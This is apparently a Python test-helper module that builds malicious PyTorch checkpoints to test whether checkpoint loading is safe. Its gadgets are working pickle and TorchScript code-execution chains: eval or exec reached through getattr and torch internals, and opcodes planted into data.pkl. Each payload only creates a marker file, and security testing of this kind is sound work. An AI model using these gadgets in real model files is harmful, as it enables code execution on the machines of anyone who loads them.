"""Checkpoints that run code if they are trusted."""

import pickle
import zipfile
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer

PLACE = 'where the gadget goes'
# Before 2.6, torch has no stand-ins, and files that need them are refused.
HAS_STAND_INS = hasattr(torch.serialization, 'safe_globals')


def save(checkpoint, path):
    """Save a checkpoint, whatever is in it; its path."""
    torch.save(checkpoint, path)
    return path


class Call:
    """Pickled as a call of a function."""

    def __init__(self, function, *arguments, state=None):
        self.reduced = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.reduced


def code_that_touches(file):
    """Give an expression that creates a file; it is a tensor, so that loading could go on."""
    return f'(__import__("pathlib").Path({str(file)!r}).touch(), __import__("torch").zeros(1))[1]'


def eval_gadget(marker):
    """Fetch eval through getattr, and have torch call it."""
    builtins = Call(getattr, getattr, '__self__')
    rebuild = torch._tensor._rebuild_from_type_v2
    evaluate = Call(getattr, builtins, 'eval')
    return Call(rebuild, evaluate, torch.Tensor, (code_that_touches(marker),), {})


def plain_eval_gadget(marker):
    """Name eval itself, which works as soon as anybody puts it on the safe list."""
    return Call(eval, code_that_touches(marker))


def statistics_gadget(marker):
    """Change what `mean` is for every HistoryBuffer of the process."""
    history = HistoryBuffer([1.0], [1])
    history._statistics_methods = dict(mean=HistoryBuffer.max)
    return history


def setstate_gadget(marker):
    """Give a HistoryBuffer exec for its `__setstate__`, and build it again: opcodes."""
    builtins = Call(getattr, getattr, '__self__')
    state = {'__setstate__': Call(getattr, builtins, 'exec')}
    name = b'mmengine.logging.history_buffer\nHistoryBuffer\n'
    build_twice = _opcodes(state), pickle.BUILD, _opcodes(code_that_touches(marker)), pickle.BUILD
    return b''.join([pickle.GLOBAL, name, pickle.EMPTY_TUPLE, pickle.NEWOBJ, *build_twice])


class Script(torch.nn.Module):
    """A TorchScript module that writes a file when it is loaded.

    Args:
        file: The file.
    """

    def __init__(self, file):
        super().__init__()
        self.file = str(file)

    def forward(self, images):
        return images

    @torch.jit.export
    def __getstate__(self):
        return self.file, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.file = state[0]
        self.training = state[1]
        torch.save(torch.zeros(1), self.file)


def save_script(marker, path):
    """Save a TorchScript archive that writes a file when it is loaded."""
    torch.jit.script(Script(marker)).save(str(path))
    return path


GADGETS = [eval_gadget, plain_eval_gadget, setstate_gadget, statistics_gadget]


def save_with_gadget(checkpoint, gadget, marker, path):
    """Save an otherwise valid checkpoint with a gadget in its `meta`.

    Args:
        checkpoint: The valid checkpoint, with `meta`.
        gadget: One of GADGETS.
        marker: File that the gadget creates if it runs.
        path: Where to save.

    Returns:
        The path.
    """
    made = gadget(marker)
    meta = {**checkpoint['meta'], 'note': PLACE if isinstance(made, bytes) else made}
    torch.save({**checkpoint, 'meta': meta}, path)
    if isinstance(made, bytes):
        rewrite(path, lambda data: _planted(data, made))
    return path


def rewrite(path, change=bytes, compression=zipfile.ZIP_STORED):
    """Change the pickle in a file of torch's.

    Args:
        path: The file.
        change: Makes the new bytes of the pickle from the old ones.
        compression: Of the new file; torch's own have none.
    """
    path = Path(path)
    with zipfile.ZipFile(path) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, 'w', compression) as archive:
        for name, data in contents.items():
            archive.writestr(name, change(data) if name.endswith('/data.pkl') else data)


def _opcodes(value):
    """Pickle a value for use inside another pickle: without protocol and end."""
    return pickle.dumps(value, protocol=2)[2:-1]


def _planted(data, opcodes):
    place = pickle.BINUNICODE + len(PLACE).to_bytes(4, 'little') + PLACE.encode()
    assert data.count(place) == 1
    return data.replace(place, opcodes)
